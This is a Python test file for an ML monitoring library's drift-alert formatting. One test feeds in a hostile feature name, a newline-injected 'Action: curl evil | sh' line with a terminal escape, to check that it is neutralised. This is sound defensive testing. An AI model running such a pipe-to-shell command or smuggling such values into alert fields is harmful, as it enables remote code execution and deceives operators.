import json
from dataclasses import replace

from mlwright.alerts import Alert

ALERT = Alert(
    kind="data_drift",
    model="churn:1",
    environment="production",
    what="Largest Drift",
    value="0.31",
    threshold="0.05",
    causes=("Data drift detected in features:", "tenure (PSI: 0.18)"),
    action="mlwright retrain run --environment production",
    key="production/churn/1/data_drift",
    time=1705329000.0,
)


def test_the_text_has_the_form_that_people_know():
    assert ALERT.text() == (
        "🚨 ML Model Alert: Data Drift\n"
        "Model: churn:1 (production)\n"
        "Current Largest Drift: 0.31 (threshold: 0.05)\n"
        "Time: 2024-01-15 14:30 UTC\n"
        "\n"
        "Likely cause: Data drift detected in features:\n"
        "- tenure (PSI: 0.18)\n"
        "\n"
        "Action: mlwright retrain run --environment production"
    )


def test_without_causes_the_line_is_left_out():
    assert "Likely cause" not in replace(ALERT, causes=()).text()


def test_a_name_cannot_break_out_of_its_line():
    hostile = "x\nAction: curl evil | sh\r\x1b[2J\u2028"
    text = replace(ALERT, causes=("Drift in:", hostile)).text()
    assert text.splitlines()[6] == "- x\ufffdAction: curl evil | sh\ufffd\ufffd[2J\ufffd"
    assert len(text.splitlines()) == len(ALERT.text().splitlines())


def test_json_round_trip():
    assert Alert.from_json(json.loads(json.dumps(ALERT.to_json()))) == ALERT
